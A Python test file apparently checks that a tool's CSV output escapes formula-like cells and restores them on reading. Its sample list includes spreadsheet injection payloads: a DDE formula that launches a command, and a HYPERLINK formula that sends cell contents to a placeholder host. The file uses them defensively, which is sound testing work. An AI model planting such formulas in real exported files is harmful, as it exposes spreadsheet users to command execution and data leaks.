"""Texts that look like formulas are escaped in CSV files for spreadsheets, and restored."""

import csv
import io
import json
import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from vendiscore.cli import main
from vendiscore.report import ReadOptions
from vendiscore.tools.cli import output
from vendiscore.tools.reading.csv_cells import escape_formula, unescape_formula
from vendiscore.tools.reading.formats import FORMATS

ROOT = Path(__file__).resolve().parents[3]
STARTS = tuple("=+-@\t\r\n")
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1 to that",
    "-5 degrees",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://a.example/?"&A1)',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=1+1",
    "''-a",
    "'quoted'",
    "-0.5",
    "-0.5.1",
    "+",
    "-",
    "-1e5x",
    "a, b",
    'say "no"',
]
texts = st.one_of(
    st.sampled_from(FORMULAS),
    st.text(alphabet="'=+-@\t\r\n 0.5eEa\",;", max_size=8),
    st.text(max_size=8).filter(lambda text: "\0" not in text),
)


def is_number(text: str) -> bool:
    try:
        return float(text) == float(text) and text.strip() == text and text.isascii()
    except ValueError:
        return False


@given(texts)
def test_text_cell_escapes_formulas_reversibly(text):
    cell = escape_formula(text)
    assert not cell.startswith(STARTS) or is_number(cell)
    assert cell in (text, f"'{text}")
    assert unescape_formula(cell) == text


@given(st.lists(st.tuples(texts, st.floats(allow_nan=False)), min_size=1, max_size=5))
def test_csv_output_of_command_escapes_texts_and_keeps_numbers(rows):
    csv_text = output.FORMATS["csv"]([{"=name": text, "x": x} for text, x in rows])
    header, *cells = csv.reader(io.StringIO(csv_text, newline=""))
    assert header == ["'=name", "x"]
    for (text, x), (text_cell_value, number_cell) in zip(rows, cells, strict=True):
        assert unescape_formula(text_cell_value) == text
        assert float(number_cell) == x
        assert not text_cell_value.startswith(STARTS) or is_number(text_cell_value)


@pytest.fixture(scope="module")
def page_csv():
    """Return a function that writes rows as the web app does."""
    node = shutil.which("node")
    if node is None:
        pytest.skip("node is not installed")
    script = (
        "import { csv } from './vendiscore_page/static/showing/saves.js';"
        "let all = ''; for await (const part of process.stdin) all += part;"
        "process.stdout.write(csv(JSON.parse(all)));"
    )

    def write(rows: list[list[object]]) -> bytes:
        command = [node, "--input-type=module", "-e", script]
        process = subprocess.run(
            command, cwd=ROOT, input=json.dumps(rows).encode(), capture_output=True, check=True
        )
        return process.stdout

    return write


def read_rows(data: bytes) -> list[list[str]]:
    return [list(row) for row in FORMATS["csv"].parse(data, ReadOptions(header=True)).rows]


@settings(max_examples=15)
@given(st.lists(st.tuples(texts, texts), min_size=1, max_size=30))
def test_csv_of_web_app_round_trips(page_csv, names_and_samples):
    rows = [
        ["place" + name, f"{sample}.", "1"] for name, sample in names_and_samples
    ]  # no cell is blank
    rows += [[f"{i}", sample, "1"] for i, sample in enumerate(FORMULAS)]
    data = page_csv([["place", "sample", "nearest"], *rows])
    for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")):
        assert all(not cell.startswith(STARTS) or is_number(cell) for cell in row)
    assert read_rows(data) == rows


@pytest.mark.parametrize(
    "data",
    [
        b"place,nearest\r\n1,'=a\r\n2,b\r\n",
        b"\xef\xbb\xbfplace,nearest\n1,'=a\n2,b\n",
        b"\xef\xbb\xbfplace,answer\r\n1,'=a\r\n2,b\r\n",
    ],
    ids=["no mark", "other line ends", "another column"],
)
def test_apostrophes_of_other_files_are_kept(data):
    assert read_rows(data) == [["1", "'=a"], ["2", "b"]]


def test_select_keeps_rows_that_look_like_formulas(tmp_path, capsys):
    path = tmp_path / "a.csv"
    rows = [["sample", "n"], *([text, str(i)] for i, text in enumerate(FORMULAS) if text.strip())]
    with path.open("w", newline="") as file:
        csv.writer(file, lineterminator="\n").writerows(rows)
    assert main(["select", str(path), "-n", "12", "--column", "sample"]) == 0
    selected = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
    assert len(selected) == 13
    assert all(row in rows for row in selected)
